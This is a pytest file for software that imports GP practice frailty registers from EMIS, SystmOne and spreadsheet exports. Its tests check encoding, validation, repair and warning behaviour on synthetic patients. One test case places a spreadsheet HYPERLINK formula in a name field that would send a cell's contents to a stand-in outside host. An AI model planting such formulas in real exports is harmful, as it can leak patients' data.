"""Register extracts in every form a practice sends them."""

from __future__ import annotations

from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest

from bhcp_desktop.domain.efi import FrailtyIndex
from bhcp_desktop.domain.errors import RuleBrokenError
from bhcp_desktop.domain.people import Sex
from bhcp_desktop.domain.register import ColumnMapping, EarlierScore, RegisterExtract, RegisterRow
from bhcp_desktop.exchange.registers import (
    MappingNeededError,
    ReadingCancelledError,
    RegisterUnreadableError,
    look_at,
)
from tests.support.registers import (
    EMIS,
    NUMBERS,
    as_csv,
    changed,
    emis_rows,
    ods,
    ods_rows,
    read,
    read_emis,
    sheet_of,
    with_preamble,
    write,
    xlsx,
)


def codes(found: tuple[object, ...]) -> list[tuple[int, str]]:
    return [(item.line, item.code) for item in found]  # type: ignore[attr-defined]


def said(extract: RegisterExtract) -> list[tuple[int, str]]:
    return codes((*extract.rejected, *extract.quarantined, *extract.repaired, *extract.warned))


def jean(extract: RegisterExtract) -> RegisterRow:
    return next(row for row in extract.rows if row.nhs_number == NUMBERS[0])


def test_every_mapped_cell_of_an_emis_row_is_there(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, emis_rows())
    assert (extract.system, extract.layout, extract.encoding, extract.header_line) == ("emis", "flat", "utf-8", 1)
    assert len(extract.rows) == 3
    row = jean(extract)
    assert (row.line, row.title, row.family_name, row.given_names) == (2, "Mrs", "ATKINSON", "Jean")
    assert (row.born_on, row.sex, row.postcode) == (date(1942, 2, 3), Sex.FEMALE, "LA9 6SA")
    assert (row.street, row.town, row.mobile_phone) == ("12 Beck Lane", "Kendal", "07700 900001")
    assert (row.practice_code, row.usual_gp, row.usual_gp_as_given) == ("A82027", "Alice Fell", "FELL, Alice (Dr)")
    assert (row.efi_score, row.efi_deficits, row.efi_date) == (Decimal("0.36"), 13, date(2026, 9, 1))
    assert (row.efi_category, row.frailty_index, row.rockwood) == ("Severe frailty", FrailtyIndex.EFI, 6)
    assert (row.housebound, row.care_home, row.source_ref) == (True, None, "1001")
    assert row.conditions == ("Asthma", "Falls")
    assert row.medicines == ("Amlodipine 5mg tablets", "Senna 7.5mg")
    assert said(extract) == []
    assert not extract.must_ask_index


def test_a_blank_is_not_among_the_given(tmp_path: Path) -> None:
    row = jean(read_emis(tmp_path, changed("Mobile Telephone", "")))
    assert "mobile_phone" not in row.given
    assert {"nhs_number", "family_name", "efi_score", "postcode"} <= row.given


def test_the_header_is_found_below_a_preamble(tmp_path: Path) -> None:
    extract = read(write(tmp_path, with_preamble(EMIS, emis_rows())))
    assert extract.header_line == 10
    assert extract.run_on == date(2026, 10, 31)
    assert (extract.stated_practice_code, extract.stated_count) == ("A82027", 3)
    assert extract.skipped_lines == tuple((line, "preamble") for line in range(1, 10))
    assert [row.line for row in extract.rows] == [11, 12, 13]


@pytest.mark.parametrize(
    ("encoding", "named"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8-sig"),
        ("utf-16", "utf-16"),
        ("utf-16-le", "utf-16"),
        ("utf-16-be", "utf-16"),
        ("cp1252", "cp1252"),
    ],
)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("newline", ["\r\n", "\n", "\r"])
@pytest.mark.parametrize("quote_all", [False, True])
def test_every_encoding_and_dialect_gives_the_same_people(
    tmp_path: Path, encoding: str, named: str, separator: str, newline: str, quote_all: bool
) -> None:
    text = as_csv(with_preamble(EMIS, emis_rows()), separator=separator, newline=newline, quote_all=quote_all)
    path = tmp_path / "register.txt"
    path.write_bytes(text.encode(encoding))
    extract = read(path)
    assert extract.encoding == named
    assert extract.rows == read(write(tmp_path, with_preamble(EMIS, emis_rows()), "plain.csv")).rows
    assert "O\u2019NEILL" in {row.family_name for row in extract.rows}


def test_bytes_that_windows_does_not_know_are_read_as_iso_8859_1(tmp_path: Path) -> None:
    path = tmp_path / "register.csv"
    path.write_bytes(as_csv([EMIS, *changed("Family Name", "L\u00d6WE\x81")]).encode("iso-8859-1", "replace"))
    extract = read(path)
    assert extract.encoding == "iso-8859-1"
    assert jean(extract).family_name == "L\u00d6WE"


def test_one_row_in_another_encoding_does_not_spoil_the_file(tmp_path: Path) -> None:
    data = as_csv([EMIS, *changed("Family Name", "MARK-HERE")]).encode()
    path = tmp_path / "register.csv"
    path.write_bytes(data.replace(b"MARK-HERE", b"O\x92D\xd6NNELL"))
    extract = read(path)
    assert extract.encoding == "utf-8"
    assert jean(extract).family_name == "O\u2019D\u00d6NNELL"
    assert codes(extract.repaired) == [(2, "encoding_mixed")]
    assert extract.repaired[0].column == "Family Name"


GROUPS = ["Patient Details", "", "", "", "", "Electronic Frailty Index", "", "", "Rockwood Clinical Frailty Scale", "",
          "Problems", "", "Medication Courses", ""]  # fmt: skip
GROUPED = ["Full Name", "NHS Number", "Date of Birth", "Gender", "Postcode", "Date", "Code Term", "Value", "Date",
           "Value", "Date", "Code Term", "Name, Dosage and Quantity", "Drug Status"]  # fmt: skip


def person(name: str, number: str, born: str, *rest: str) -> list[str]:
    cells = [name, number, born, "Female", "LA9 6SA", *rest]
    return [*cells, *[""] * (len(GROUPED) - len(cells))]


def further(*rest: str) -> list[str]:
    return person("", "", "", *rest)[:3] + ["", "", *rest] + [""] * (len(GROUPED) - 5 - len(rest))


def test_several_rows_of_a_patient_are_one_person(tmp_path: Path) -> None:
    rows = [
        GROUPS,
        GROUPED,
        person("ATKINSON, Jean (Mrs)", "999 000 0018", "03-Feb-1942", "14-Feb-2025", "Frailty Index score", "0.28",
               "", "", "", "Asthma", "Senna 7.5mg tablets, One At Night, 28 tablet", "Repeat"),
        further("01-Sep-2026", "Frailty Index score", "0.36", "", "", "", "Falls", "Trimethoprim 200mg", "Acute"),
        further("", "", "", "", "", "", "Asthma"),
        person("VAN DER BERG, Jan (Mr)", "999 000 0026", "28-Feb-1938"),
    ]  # fmt: skip
    extract = read(write(tmp_path, rows))
    assert (extract.layout, extract.header_line) == ("multirow", 2)
    assert extract.skipped_lines == ((1, "group_header"),)
    row = jean(extract)
    assert (row.title, row.family_name, row.given_names) == ("Mrs", "ATKINSON", "Jean")
    assert (row.line, row.also_lines) == (3, (4, 5))
    assert (row.efi_score, row.efi_date, row.efi_deficits) == (Decimal("0.36"), date(2026, 9, 1), 13)
    assert row.earlier_scores == (EarlierScore(instrument="efi", score="0.28", scored_on=date(2025, 2, 14)),)
    assert row.conditions == ("Asthma", "Falls")
    assert row.medicines == ("Senna 7.5mg tablets, One At Night, 28 tablet", "Trimethoprim 200mg (Acute)")
    assert [other.family_name for other in extract.rows] == ["ATKINSON", "VAN DER BERG"]


def test_rows_that_repeat_the_number_belong_together(tmp_path: Path) -> None:
    jean_twice = [
        person("ATKINSON, Jean (Mrs)", "999 000 0018", "03-Feb-1942", "", "", "", "", "", "", condition)
        for condition in ("", "Asthma", "Falls")
    ]
    for cells, condition in zip(jean_twice, ("Stroke", "Asthma", "Falls"), strict=True):
        cells[11] = condition
    extract = read(write(tmp_path, [GROUPS, GROUPED, *jean_twice]))
    assert jean(extract).conditions == ("Stroke", "Asthma", "Falls")
    assert not extract.warned


def test_rows_of_a_refused_person_are_not_given_to_the_one_above(tmp_path: Path) -> None:
    rows = [
        GROUPS,
        GROUPED,
        person("ATKINSON, Jean (Mrs)", "999 000 0018", "03-Feb-1942"),
        person("BIRKETT, Ron (Mr)", "999 000 0027", "28-Feb-1938"),
        further("", "", "", "", "", "", "Stroke"),
    ]
    extract = read(write(tmp_path, rows))
    assert jean(extract).conditions == ()
    assert codes(extract.rejected) == [(4, "nhs_bad_check_digit")]
    assert extract.set_aside[0].more == ((5, tuple(further("", "", "", "", "", "", "Stroke"))),)


PEOPLE = ["Full Name", "Age", "NHS number", "Date of birth", "Sex", "Postcode", "Practice code", "Patient Count"]
FRAILTY = ["NHS number", "Frailty", "eFI score", "eFI date", "Rockwood score", "Patient Count"]
DRUGS = ["NHS number", "Drug", "Dosage", "Conditions", "Patient Count"]


def split_files(folder: Path) -> list[Path]:
    people = [
        ["Mrs Jean Atkinson", "84", NUMBERS[0], "03 Feb 1942", "Female", "LA9 6SA", "A82027", ""],
        ["Mr Jan Van der Berg", "88", NUMBERS[1], "28 Feb 1938", "Male", "LA8 9AA", "A82027", ""],
    ]
    frailty = [
        [NUMBERS[1], "No frailty", "0.11", "02 Sep 2026", "", ""],
        [NUMBERS[0], "Severe frailty", "0.36", "01 Sep 2026", "6", ""],
        [NUMBERS[5], "Mild frailty", "0.17", "01 Sep 2026", "", ""],
        ["", "", "", "", "", "3"],
    ]
    drugs = [
        [NUMBERS[0], "Senna 7.5mg tablets", "One At Night", "Falls", ""],
        [NUMBERS[0], "Amlodipine 5mg tablets", "", "Asthma", ""],
        [NUMBERS[0], "", "", "Falls", ""],
    ]
    return [
        write(folder, [DRUGS, *drugs], "c.csv"),
        write(folder, [PEOPLE, *people], "a.csv"),
        write(folder, [FRAILTY, *frailty], "b.csv"),
    ]


def test_the_three_files_of_a_systmone_report_are_joined_in_any_order(tmp_path: Path) -> None:
    extract = read(*split_files(tmp_path))
    assert (extract.system, extract.layout) == ("systmone", "split")
    assert [file.name for file in extract.files] == ["a.csv", "c.csv", "b.csv"]
    row = jean(extract)
    assert (row.efi_score, row.rockwood, row.efi_category) == (Decimal("0.36"), 6, "Severe frailty")
    assert row.medicines == ("Senna 7.5mg tablets, One At Night", "Amlodipine 5mg tablets")
    assert row.conditions == ("Falls", "Asthma")
    assert "efi_score" in row.given
    jan = extract.rows[1]
    assert (jan.title, jan.given_names, jan.family_name) == ("Mr", "Jan", "Van der Berg")
    assert [(item.file, item.line, item.code) for item in extract.warned] == [(2, 4, "orphan_row")]
    assert [(aside.file, aside.line) for aside in extract.set_aside] == [(2, 4)]
    assert extract.files[2].skipped_lines == ((5, "totals_row"),)


def test_a_part_of_a_report_alone_is_refused_with_the_remedy(tmp_path: Path) -> None:
    files = split_files(tmp_path)
    with pytest.raises(MappingNeededError, match="Date of birth"):
        read(files[2])
    with pytest.raises(RegisterUnreadableError, match="Choose all files of the report together"):
        read(files[0], files[2])


def test_two_registers_at_once_are_refused(tmp_path: Path) -> None:
    with pytest.raises(RegisterUnreadableError, match="one register at a time"):
        read(write(tmp_path, [EMIS, *emis_rows()], "a.csv"), write(tmp_path, [EMIS, *emis_rows()], "b.csv"))


@pytest.mark.parametrize("from_1904", [False, True])
def test_a_workbook_gives_the_same_people(tmp_path: Path, from_1904: bool) -> None:
    rows: list[list[str | float | date]] = [list(cells) for cells in emis_rows()]
    for cells in rows:
        cells[EMIS.index("NHS Number")] = float(str(cells[EMIS.index("NHS Number")]))
        if cells[EMIS.index("eFI Score")]:
            cells[EMIS.index("eFI Score")] = float(str(cells[EMIS.index("eFI Score")]))
    for cells, born in zip(rows, (date(1942, 2, 3), date(1938, 2, 28), date(1955, 3, 1)), strict=True):
        cells[EMIS.index("Date of Birth")] = born
    path = xlsx(tmp_path / "r.xlsx", sheet_of([["List"], EMIS, *rows], from_1904=from_1904), from_1904=from_1904)
    extract = read(path)
    plain = read(write(tmp_path, [["List"], EMIS, *emis_rows()]))
    assert extract.rows == plain.rows
    assert extract.header_line == 2
    assert extract.skipped_lines == ((1, "preamble"),)


@pytest.mark.parametrize(("from_1904", "serial"), [(False, 15375), (True, 13913)])
def test_a_day_number_in_a_workbook_counts_from_its_own_first_day(tmp_path: Path, from_1904: bool, serial: int) -> None:
    rows: list[list[str | float | date]] = [list(cells) for cells in emis_rows()]
    rows[0][EMIS.index("Date of Birth")] = serial
    extract = read(xlsx(tmp_path / "r.xlsx", sheet_of([EMIS, *rows]), from_1904=from_1904))
    assert jean(extract).born_on == date(1942, 2, 3)
    assert codes(extract.repaired) == [(2, "dob_excel_day_number")]


def test_an_open_document_sheet_gives_the_same_people(tmp_path: Path) -> None:
    extract = read(ods(tmp_path / "r.ods", ods_rows([EMIS, *emis_rows()])))
    assert extract.rows == read(write(tmp_path, [EMIS, *emis_rows()])).rows


def test_what_is_no_patient_is_skipped_by_kind(tmp_path: Path) -> None:
    blank = [""] * len(EMIS)
    one, two, three = emis_rows()
    rows = [one, blank, two, EMIS, three, ["Total", "3", *blank[2:]], ["*** End of report ***", *blank[1:]]]
    extract = read_emis(tmp_path, rows)
    assert extract.skipped_lines == ((3, "blank_row"), (5, "repeated_header"), (7, "totals_row"), (8, "footer"))
    assert len(extract.rows) == 3
    assert not extract.rejected


NHS, BORN, FAMILY = "NHS Number", "Date of Birth", "Family Name"


@pytest.mark.parametrize(
    ("column", "written", "code"),
    [
        (NHS, "999 000 0019", "nhs_bad_check_digit"),
        (NHS, "999000001", "nhs_too_short"),
        (NHS, "99900000181", "nhs_too_long"),
        (NHS, "999000OO18", "nhs_letter"),
        (NHS, "9.99873E+09", "nhs_scientific"),
        (NHS, "BADNHS1", "nhs_letter"),
        (NHS, "9999999999", "nhs_repeated"),
        (NHS, "QQ123456C", "nhs_looks_like_ni"),
        (NHS, "99900000.18", "nhs_fraction"),
        (NHS, "-9990000018", "nhs_letter"),
        (BORN, "", "dob_missing"),
        (BORN, "30-Feb-1942", "dob_impossible"),
        (BORN, "02/23/1942", "dob_us_order"),
        (BORN, "01-Jan-2031", "dob_future"),
        (BORN, "01-Jan-1888", "dob_too_old"),
        (BORN, "1942", "dob_incomplete"),
        (BORN, "about 1942", "dob_unreadable"),
        (FAMILY, "", "name_missing"),
    ],
)
def test_a_row_that_cannot_be_trusted_is_rejected_and_the_others_are_read(
    tmp_path: Path, column: str, written: str, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert codes(extract.rejected) == [(2, code)]
    assert extract.rejected[0].column == column
    assert [row.line for row in extract.rows] == [3, 4]
    (aside,) = extract.set_aside
    assert aside.cells == tuple(changed(column, written)[0])
    reason = extract.rejected[0].reason
    assert not any(word in reason for word in ("ATKINSON", "Jean", "9990000018", written) if word)


@pytest.mark.parametrize(
    ("column", "written", "field", "value", "code"),
    [
        (NHS, "'9990000018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "9990000018.0", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999-000-0018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999\u00a0000\u00a00018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "999  000  0018", "nhs_number", NUMBERS[0], "nhs_tidied"),
        (NHS, "9.990000018E+09", "nhs_number", NUMBERS[0], "nhs_scientific"),
        (BORN, "15375", "born_on", date(1942, 2, 3), "dob_excel_day_number"),
        (BORN, "03-Feb-42", "born_on", date(1942, 2, 3), "dob_two_digit_year"),
        (FAMILY, "  ATKINSON   ", "family_name", "ATKINSON", "blanks_trimmed"),
        (FAMILY, "ATK\x07IN\tSON", "family_name", "ATKINSON", "control_characters"),
        (FAMILY, "ATK\x00INSON", "family_name", "ATKINSON", "control_characters"),
        ("Postcode", "la96sa", "postcode", "LA9 6SA", "postcode_tidied"),
        ("Postcode", "LA9   6SA", "postcode", "LA9 6SA", "blanks_trimmed"),
        ("Mobile Telephone", "7700 900001", "mobile_phone", "07700 900001", "phone_nought"),
        ("eFI Score", "0,36", "efi_score", Decimal("0.36"), "efi_comma"),
    ],
)
def test_what_has_one_right_reading_is_repaired_and_said(
    tmp_path: Path, column: str, written: str, field: str, value: object, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert len(extract.rows) == 3
    assert getattr(extract.rows[0], field) == value
    assert codes(extract.repaired) == [(2, code)]
    assert (extract.repaired[0].column, extract.repaired[0].repaired_to) == (column, str(value))


@pytest.mark.parametrize(
    ("column", "written", "field", "value", "code"),
    [
        (FAMILY, "ATKINSON (Deceased)", "family_name", "ATKINSON", "deceased"),
        (FAMILY, "O\u00e2\u20ac\u2122NEILL", "family_name", "O\u00e2\u20ac\u2122NEILL", "mojibake"),
        ("Postcode", "", "postcode", "", "postcode_missing"),
        ("Postcode", "UNKNOWN", "postcode", "UNKNOWN", "postcode_malformed"),
        ("Postcode", "LA9O 7HR", "postcode", "LA9O 7HR", "postcode_malformed"),
        ("Postcode", "ZZ99 3VZ", "postcode", "ZZ99 3VZ", "postcode_malformed"),
        ("Organisation Code", "", "practice_code", "", "practice_code_missing"),
        ("Organisation Code", "X26", "practice_code", "X26", "practice_code_unknown"),
        ("Organisation Code", "Y00000", "practice_code", "Y00000", "practice_code_unknown"),
        ("eFI Score", "7", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "-0.1", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "0.1.9", "efi_score", None, "efi_out_of_range"),
        ("eFI Score", "#N/A", "efi_score", None, "efi_text"),
        ("eFI Category", "Mild frailty", "efi_category", "Mild frailty", "efi_category_mismatch"),
        ("eFI Date", "31/11/2026", "efi_date", None, "date_impossible"),
        ("Rockwood Score", "10", "rockwood", None, "rockwood_wrong"),
        ("Gender", "Purple", "sex", Sex.NOT_KNOWN, "sex_not_understood"),
        ("Housebound", "sometimes", "housebound", None, "not_understood"),
    ],
)
def test_what_somebody_should_look_at_is_warned_and_the_person_kept(
    tmp_path: Path, column: str, written: str, field: str, value: object, code: str
) -> None:
    extract = read_emis(tmp_path, changed(column, written), known_practices={"A82027"})
    assert len(extract.rows) == 3
    assert getattr(extract.rows[0], field) == value
    assert (2, code) in codes(extract.warned)
    if value is None:
        assert field not in extract.rows[0].given


@pytest.mark.parametrize(
    ("column", "written", "field", "value"),
    [
        ("Given Name", '=HYPERLINK("http://example.invalid/?x="&A1,"open")', "given_names", None),
        ("House Name / Flat Number", "+44 7700 900123", "house", None),
        ("House Name / Flat Number", 'The "Old" Forge', "house", None),
        ("Number and Street", "12 Beck Lane\nRear entrance", "street", None),
        ("Gender", "", "sex", Sex.NOT_KNOWN),
        ("Gender", "Indeterminate", "sex", Sex.INDETERMINATE),
        ("Gender", "Not Specified", "sex", Sex.NOT_KNOWN),
        ("Gender", "1", "sex", Sex.MALE),
        ("Housebound", "No", "housebound", False),
        ("Housebound", "No longer housebound", "housebound", False),
        ("Care Home resident", "Heron Court", "care_home", None),
        ("Care Home resident", "N", "care_home", ""),
        ("Rockwood Score", "6 - Moderately frail", "rockwood", 6),
        (BORN, "19420203", "born_on", date(1942, 2, 3)),
        (BORN, "1942-02-03", "born_on", date(1942, 2, 3)),
        (BORN, "3.2.1942", "born_on", date(1942, 2, 3)),
        (BORN, "1942-02-03T00:00:00Z", "born_on", date(1942, 2, 3)),
        (BORN, "03/Feb/1942 10:37", "born_on", date(1942, 2, 3)),
        (NHS, "999 000 0018", "nhs_number", NUMBERS[0]),
    ],
)
def test_lawful_data_is_taken_without_a_word(
    tmp_path: Path, column: str, written: str, field: str, value: object
) -> None:
    extract = read_emis(tmp_path, changed(column, written))
    assert getattr(extract.rows[0], field) == (written if value is None else value)
    assert said(extract) == []


def test_a_row_without_a_number_waits_with_what_it_says(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, changed(NHS, ""))
    assert codes(extract.quarantined) == [(2, "nhs_missing")]
    (aside,) = extract.set_aside
    assert aside.row is not None
    assert (aside.row.nhs_number, aside.row.family_name, aside.row.born_on) == (None, "ATKINSON", date(1942, 2, 3))


def test_two_people_under_one_number_are_both_set_aside(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, changed(NHS, NUMBERS[0], row=1))
    assert codes(extract.quarantined) == [(2, "nhs_two_people"), (3, "nhs_two_people")]
    assert "line 3" in extract.quarantined[0].reason
    assert "line 2" in extract.quarantined[1].reason
    assert [row.line for row in extract.rows] == [4]
    assert all(aside.row is not None for aside in extract.set_aside)


def test_the_same_row_twice_is_one_person(tmp_path: Path) -> None:
    extract = read_emis(tmp_path, [*emis_rows(), emis_rows()[0]])
    assert [row.line for row in extract.rows] == [2, 3, 4]
    assert codes(extract.warned) == [(5, "duplicate_row")]


def test_rows_of_one_person_that_differ_are_shown_and_not_last_wins(tmp_path: Path) -> None:
    other = changed("Mobile Telephone", "07700 900999")[0]
    extract = read_emis(tmp_path, [*emis_rows(), other])
    assert codes(extract.quarantined) == [(2, "nhs_rows_differ"), (5, "nhs_rows_differ")]
    assert "mobile telephone" in extract.quarantined[0].reason


def test_likely_doubles_are_flagged_but_twins_and_father_and_son_are_not(tmp_path: Path) -> None:
    twin, son, double = (changed(NHS, number)[0] for number in NUMBERS[3:6])
    twin[EMIS.index("Given Name")] = "Joan"
    son[EMIS.index(BORN)] = "03-Feb-1972"
    extract = read_emis(tmp_path, [*emis_rows(), twin, son, double])
    assert len(extract.rows) == 6
    assert codes(extract.warned) == [(7, "duplicate_person")]


@pytest.mark.parametrize("name", ["ZZZTEST", "XXTESTPATIENT-TVIN", "TEST-DO-NOT-USE"])
def test_test_records_are_left_out_and_said(tmp_path: Path, name: str) -> None:
    extract = read_emis(tmp_path, changed(FAMILY, name))
    assert [row.line for row in extract.rows] == [3, 4]
    assert codes(extract.warned) == [(2, "test_patient")]
    assert len(extract.set_aside) == 1


@pytest.mark.parametrize("name", ["TESTA", "RIPLEY", "DECEASE", "ZZ", "XAVIER"])
def test_names_that_only_look_like_it_are_left_alone(tmp_path: Path, name: str) -> None:
    extract = read_emis(tmp_path, changed(FAMILY, name))
    assert extract.rows[0].family_name == name
    assert not extract.warned


def test_a_truncated_row_and_a_shifted_row_are_rejected(tmp_path: Path) -> None:
    one, two, three = emis_rows()
    shifted = [*two[:11], "Upper Floor", *two[11:]]
    extract = read(write(tmp_path, [EMIS, one[:9], shifted, three]))
    assert codes(extract.rejected) == [(2, "too_few_fields"), (3, "too_many_fields")]
    assert [row.line for row in extract.rows] == [4]


@pytest.mark.parametrize("broken", ['ATK"INSON', '"ATKINSON', 'ATKINSON"'])
def test_a_stray_quote_costs_one_row(tmp_path: Path, broken: str) -> None:
    text = as_csv([EMIS, *emis_rows(), *(changed(NHS, number)[0] for number in NUMBERS[3:6])])
    path = tmp_path / "register.csv"
    path.write_text(text.replace("ATKINSON", broken, 1), newline="")
    extract = read(path)
    assert codes(extract.rejected) == [(2, "bare_quote")]
    assert [row.line for row in extract.rows][:2] == [3, 4]
    assert len(extract.rows) == 5


def test_a_line_break_in_the_first_cell_is_data(tmp_path: Path) -> None:
    extract = read(write(tmp_path, [GROUPED, person("ATKINSON,\nJean (Mrs)", NUMBERS[0], "03-Feb-1942")]))
    assert (jean(extract).family_name, jean(extract).given_names) == ("ATKINSON", "Jean")


def test_a_two_digit_year_is_not_guessed_without_the_age(tmp_path: Path) -> None:
    rows = changed(BORN, "03-Feb-21")
    rows[0][EMIS.index("Age")] = ""
    extract = read_emis(tmp_path, rows)
    assert codes(extract.rejected) == [(2, "dob_two_digit_year")]
    rows[0][EMIS.index("Age")] = "5"
    assert read_emis(tmp_path, rows).rows[0].born_on == date(2021, 2, 3)


def unnamed_index(rows: list[list[str]]) -> list[list[str]]:
    header = [name.replace("eFI Score", "Frailty score").replace("eFI", "Frailty") for name in EMIS]
    return [header, *rows]


def test_scores_without_a_word_on_their_index_are_not_banded(tmp_path: Path) -> None:
    path = write(tmp_path, unnamed_index(emis_rows()))
    extract = read(path)
    assert extract.frailty_index is FrailtyIndex.UNKNOWN
    assert extract.must_ask_index
    assert jean(extract).efi_score == Decimal("0.36")
    assert jean(extract).efi_deficits is None
    assert codes(extract.warned) == [(1, "index_unknown")]
    answered = read(path, frailty_index=FrailtyIndex.EFI)
    assert (jean(answered).efi_deficits, answered.must_ask_index) == (13, False)
    assert not answered.warned


def test_the_two_indices_are_kept_apart(tmp_path: Path) -> None:
    header = [name.replace("eFI", "eFI2") for name in EMIS]
    extract = read(write(tmp_path, [header, *changed("eFI Score", "0.2501")]))
    row = jean(extract)
    assert (row.frailty_index, row.efi_deficits, row.efi_score) == (FrailtyIndex.EFI2, None, Decimal("0.2501"))


def test_scores_that_cannot_be_counts_make_the_index_doubtful(tmp_path: Path) -> None:
    rows = [changed("eFI Score", score)[0] for score in ("0.1012", "0.2213", "0.1577", "0.2391", "0.3021")]
    for cells, number in zip(rows, NUMBERS, strict=False):
        cells[EMIS.index(NHS)] = number
    extract = read_emis(tmp_path, rows)
    assert (1, "index_doubtful") in codes(extract.warned)
    assert extract.must_ask_index


def test_what_most_rows_share_is_said_once(tmp_path: Path) -> None:
    rows: list[list[str]] = []
    stem = 999_100_000
    while len(rows) < 300:
        stem += 1
        check = (11 - sum(int(digit) * (10 - place) for place, digit in enumerate(str(stem))) % 11) % 11
        if check < 10:
            rows.append(changed(NHS, f"{stem}{check}")[0])
            rows[-1][EMIS.index("Mobile Telephone")] = "7700 900123"
            rows[-1][EMIS.index("Given Name")] = f"Jean{len(rows)}"
    extract = read_emis(tmp_path, rows)
    assert len(extract.rows) == 300
    assert codes(extract.repaired) == [(1, "phone_nought")]
    assert "300 rows" in extract.repaired[0].reason


def test_columns_can_be_mapped_by_hand_and_recognised_again(tmp_path: Path) -> None:
    rows = [["Ref", "Who", "Arrived", "Extra"], [NUMBERS[0], "ATKINSON, Jean (Mrs)", "03/02/1942", "x"]]
    path = write(tmp_path, rows)
    head = look_at([path])
    assert head.missing == ("Date of birth", "Family name")
    assert [choice.field for choice in head.mapping.columns] == ["nhs_number", "", "", ""]
    assert head.sample[0] == (tuple(rows[1]),)
    with pytest.raises(MappingNeededError):
        read(path)
    text = head.mapping.to_json().replace('"field": "", "file": 0, "group": "", "index": 1', '"field": "full_name", '
        '"file": 0, "group": "", "index": 1').replace('"field": "", "file": 0, "group": "", "index": 2', '"field": '
        '"born_on", "file": 0, "group": "", "index": 2')  # fmt: skip
    extract = read(path, mapping=ColumnMapping.from_json(text))
    assert jean(extract).family_name == "ATKINSON"
    assert [choice.name for choice in extract.mapping.unmapped] == ["Extra"]
    with pytest.raises(RuleBrokenError, match="columns"):
        read(write(tmp_path, [["Ref", "Who", "Came"], *rows[1:]]), mapping=ColumnMapping.from_json(text))


def test_the_fingerprint_does_not_mind_capitals_or_the_lines_above(tmp_path: Path) -> None:
    one = look_at([write(tmp_path, [EMIS, *emis_rows()])])
    other = look_at([write(tmp_path, with_preamble([name.upper() for name in EMIS], emis_rows()))])
    assert one.mapping.fingerprint == other.mapping.fingerprint
    assert (one.frailty_index, one.missing) == (FrailtyIndex.EFI, ())


@pytest.mark.parametrize(
    ("name", "field"),
    [
        ("Patient's NHS No.", "nhs_number"),
        ("DOB", "born_on"),
        ("Surname", "family_name"),
        ("Forename(s)", "given_names"),
        ("Registered Practice Code", "practice_code"),
        ("Latest eFI Score", "efi_score"),
        ("Clinical Frailty Scale (Rockwood)", "rockwood"),
        ("Date of birth (dd/mm/yyyy)", "born_on"),
        ("Shoe size", ""),
    ],
)
def test_columns_are_known_by_their_usual_names(tmp_path: Path, name: str, field: str) -> None:
    base = ["NHS Number", "Full Name", "Date of Birth"]
    kept = [known for known in base if look_at_field(known) != field]
    path = write(tmp_path, [[*kept, "Sex", "Town", name], ["x"] * (len(kept) + 3)])
    assert look_at([path]).mapping.columns[-1].field == field


def look_at_field(name: str) -> str:
    return {"NHS Number": "nhs_number", "Full Name": "full_name", "Date of Birth": "born_on"}[name]


def test_progress_is_told_and_can_stop_the_reading(tmp_path: Path) -> None:
    told: list[tuple[int, int]] = []

    def go_on(done: int, total: int) -> bool:
        told.append((done, total))
        return True

    read_emis(tmp_path, emis_rows(), progress=go_on)
    assert told[0] == (0, 3)
    assert told[-1] == (3, 3)
    with pytest.raises(ReadingCancelledError):
        read_emis(tmp_path, emis_rows(), progress=lambda _done, _total: False)


def test_names_that_were_never_seen_with_a_comma(tmp_path: Path) -> None:
    header = ["Full Name", "NHS number", "Date of birth"]
    names = {
        "Mrs Siân Ó Briain": ("Mrs", "Siân", "Ó Briain"),
        "Mr Oliver St. John": ("Mr", "Oliver", "St. John"),
        "Ms Ana de la Mare": ("Ms", "Ana", "de la Mare"),
        "ROBSON Olivia (Miss)": ("Miss", "Olivia", "ROBSON"),
        "Rev Dr Mary Fell": ("Rev Dr", "Mary", "Fell"),
    }
    rows = [[name, number, "03 Feb 1942"] for name, number in zip(names, NUMBERS, strict=False)]
    extract = read(write(tmp_path, [header, *rows]))
    assert [(row.title, row.given_names, row.family_name) for row in extract.rows] == list(names.values())
    unsure = read(write(tmp_path, [header, ["Mr David Lloyd George", NUMBERS[0], "03 Feb 1942"]]))
    assert codes(unsure.warned) == [(2, "name_split")]
